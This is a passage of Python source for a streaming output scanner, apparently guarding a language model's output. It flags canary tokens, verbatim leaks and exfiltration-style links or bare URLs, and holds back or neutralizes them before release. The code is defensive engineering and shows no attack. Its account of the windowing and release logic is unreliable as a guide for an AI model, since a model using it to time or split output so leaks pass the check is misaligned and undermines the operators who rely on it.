        """Scan one more piece of the output; say what may be sent and what was found."""
        if self._finished:
            raise RuntimeError("StreamScanner.feed after finish")
        before = self._base + len(self._text)
        self._text += delta
        leaks = self._verbatim.feed(delta) if self._verbatim else []
        return self._step(before, leaks, final=False)

    def finish(self) -> ScanStep:
        """The end of the stream: judge what was still open and release everything left."""
        if self._finished:
            raise RuntimeError("StreamScanner.finish called twice")
        self._finished = True
        leaks = self._verbatim.finish() if self._verbatim else []
        return self._step(self._base + len(self._text), leaks, final=True)

    def _step(self, before: int, leaks: list[Span], *, final: bool) -> ScanStep:
        text, base = self._text, self._base
        end = base + len(text)
        floor = end - self._window
        starts = {name: max(base, min(at, before)) - base for name, at in self._scan_from.items()}
        scan = _scan(
            text, final, self._refs, self._allow, self._all_links,
            exfil=True, active=self._active, starts=starts,
        )  # fmt: skip
        found = [replace(f, start=f.start + base, end=f.end + base) for f in scan.findings]
        opens = {name: at + base for name, at in scan.opens.items()}
        self._scan_from = {name: max(opens.get(name, end), floor) for name in _PASSES}
        holds = list(opens.values())
        if self._canary is not None:
            found += self._canaries(before, final, holds)
        new = self._report(found)
        if self._verbatim is not None:
            new += [self._leak("verbatim", span.start, span.end) for span in leaks]
            if self._verbatim.open_at is not None and not final:
                holds.append(self._verbatim.open_at)
        target = self._target(end, floor, [h for h in holds if h >= floor], new, final)
        start = self._released
        released = text[start - base : target - base]
        if self._neutralize:
            regions = _regions(self._live.values(), start, target)
            shifted = [(s - start, e - start, r) for s, e, r in regions]
            released = _spliced(released, 0, len(released), shifted)
        self._released = target
        self._live = {key: f for key, f in self._live.items() if f.end > target}
        if floor > base:
            self._text, self._base = text[floor - base :], floor
            if len(self._reported) > 256:
                self._reported = {key for key in self._reported if key[1] >= floor}
        leaked = any(f.start < start for f in new)
        return ScanStep(released, start, target - start, tuple(new), leaked)

    def _canaries(self, before: int, final: bool, opens: list[int]) -> list[OutputFinding]:
        assert self._canary is not None
        text, base = self._text, self._base
        lo = max(0, before - base - self._canary.max_span)
        found = [
            self._leak("canary", m.start() + base, m.end() + base)
            for m in self._canary.pattern.finditer(text, lo)
        ]
        prefix = None if final else self._canary.open_at(text)
        if prefix is not None:
            opens.append(prefix + base)
        return found

    def _leak(self, rule: str, start: int, end: int) -> OutputFinding:
        seen = self._text[max(0, start - self._base) : max(0, end - self._base)]
        return OutputFinding(LEAKAGE, rule, start, end, evidence=Evidence.of(seen))

    def _report(self, found: list[OutputFinding]) -> list[OutputFinding]:
        """Remember findings for neutralizing; return those never reported before.

        A finding that starts inside the last one reported under its rule is that one seen
        again (a URL that grew, or one longer than the window, cut where the window starts),
        and a bare URL inside a reported link or image is that link's URL.
        """
        new = []
        for f in found:
            key = (f.rule, f.start)
            self._live[key] = f
            last = self._last.get(f.rule)
            if last is not None and last.start <= f.start < last.end:
                self._last[f.rule] = Span(last.start, max(last.end, f.end))
            elif key not in self._reported and not (
                f.rule == "bare_url" and any(r.start <= f.start < r.end for r in self._recent)
            ):
                self._reported.add(key)
                self._last[f.rule] = Span(f.start, f.end)
                self._recent.append(Span(f.start, f.end))
                new.append(f)
        return new

    def _target(
        self, end: int, floor: int, opens: list[int], new: list[OutputFinding], final: bool
    ) -> int:
        """How far the output may be released: held back, open constructs and violations."""
        if self._hold == 0:
            return end
        target = end if final else min([end - self._hold, *opens])
        for f in new:
            if not (self._neutralize and f.replacement is not None):
                target = min(target, f.start)
        if final:
            return max(target, self._released)
        for f in sorted(self._live.values(), key=lambda f: -f.start):
            if self._released <= f.start < target < f.end:
                target = f.start
        return max(target, floor, self._released)
